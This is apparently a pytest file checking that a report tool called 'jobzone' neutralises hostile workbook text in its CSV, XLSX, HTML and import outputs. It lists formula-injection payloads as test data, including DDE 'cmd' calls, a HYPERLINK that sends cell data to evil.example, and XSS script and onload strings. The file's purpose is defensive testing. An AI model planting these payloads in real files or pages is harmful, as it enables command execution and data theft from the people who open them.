"""Hostile text from workbooks reaches CSV, XLSX and HTML outputs inert, through the real commands.

Each workbook of a small portfolio carries attack text where an analyst types:
the role title, a task name, a task rationale, a narrative section. The text is
written into the file as a text cell, exactly as a hostile file would hold it.
`jobzone report` then writes every format; the tests read the outputs back the
way a spreadsheet or a browser would and look for anything that could run.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from typer.testing import CliRunner

from jobzone.engine.cli.app import build_app
from tests.hostile_corpus import with_texts

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "<script>alert('x')</script>",
    "</script><img src=x onerror=alert(1)>",
    "\"'><svg onload=alert(1)>",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def portfolio(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile-portfolio")
    for index, payload in enumerate(PAYLOADS):
        data = with_texts({("Role", "B4"): payload, ("Tasks", "A4"): payload + " task",
                           ("Tasks", "F4"): payload, ("Notes", "B4"): payload})
        (folder / f"hostile-{index:02}.xlsx").write_bytes(data)
    return folder


def report(portfolio: Path, out: Path) -> None:
    done = CliRunner().invoke(build_app(), ["report", str(portfolio), "--out", str(out)])
    assert done.exit_code in (0, 1), done.output
    assert out.is_file()


def test_every_hostile_workbook_still_scores(portfolio: Path, tmp_path: Path) -> None:
    import json

    out = tmp_path / "report.json"
    report(portfolio, out)
    text = out.read_text(encoding="utf-8")
    for payload in PAYLOADS:  # JSON carries the text verbatim: JSON runs nothing
        assert json.dumps(payload)[1:-1] in text
    assert "41.2" in text


def test_csv_fields_never_start_a_formula(portfolio: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.csv"
    report(portfolio, out)
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    fields = [field for row in rows for field in row]
    for field in fields:
        if field.startswith("-"):
            float(field)  # a negative number is data, not a formula
        else:
            assert not field.startswith(FORMULA_START), field
    for payload in PAYLOADS:  # titles may be trimmed of surrounding space on the way
        if payload.strip().startswith(FORMULA_START):
            assert "'" + payload.strip() in fields, payload


def test_xlsx_holds_no_formula_and_marks_formula_like_text(portfolio: Path,
                                                           tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "report.xlsx"
    report(portfolio, out)
    workbook = load_workbook(out)
    seen = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert {p.strip() for p in PAYLOADS if p.strip().startswith(FORMULA_START)} <= seen


def test_html_escapes_everything(portfolio: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    report(portfolio, out)
    page = out.read_text(encoding="utf-8")
    assert len(re.findall(r"<script\b", page)) == 1  # the report's own, pinned by CSP hash
    for needle in ("<img", "<svg onload", "alert('x')</script>"):
        assert needle not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "default-src &#x27;none&#x27;" in page  # CSP: no network, script pinned by hash


IMPORT_PAYLOADS = [p for p in PAYLOADS if "|" not in p and "\r" not in p]  # pipes split tables


def test_imported_workbooks_keep_hostile_text_as_quoted_text(tmp_path: Path) -> None:
    """jobzone import: titles and task names from a write-up land as inert text cells."""
    import csv as csv_module

    from openpyxl import load_workbook

    from tests.hostile_corpus import WRITEUP

    reference = WRITEUP.read_text(encoding="utf-8")
    sources = tmp_path / "sources"
    sources.mkdir()
    for index, payload in enumerate(IMPORT_PAYLOADS):
        text = reference.replace("| Job Title | LLMOps Engineer |", f"| Job Title | {payload} |")
        text = text.replace("| LLM deployment & serving infrastructure |", f"| {payload} |")
        (sources / f"role-{index}.txt").write_text(text, encoding="utf-8")
    out = tmp_path / "out"
    done = CliRunner().invoke(build_app(), ["import", str(sources), "--out", str(out), "-q",
                                            "--jobs", "1"])
    assert done.exit_code == 0, done.output
    outputs = sorted(out.glob("*.xlsx"))
    assert len(outputs) == len(IMPORT_PAYLOADS)
    for path in outputs:
        assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*\.xlsx", path.name), path.name
        workbook = load_workbook(path)
        for sheet, ref in (("Role", "B4"), ("Tasks", "A4")):
            cell = workbook[sheet][ref]
            assert cell.data_type == "s", (path.name, sheet, ref)
            if cell.value.startswith(FORMULA_START):
                assert cell.quotePrefix, (path.name, sheet, ref, cell.value)
    rows = list(csv_module.reader(io.StringIO((out / "import-report.csv").read_text("utf-8"))))
    for field in (field for row in rows for field in row):
        assert not field.startswith(("=", "+", "@", "\t", "\r")), field
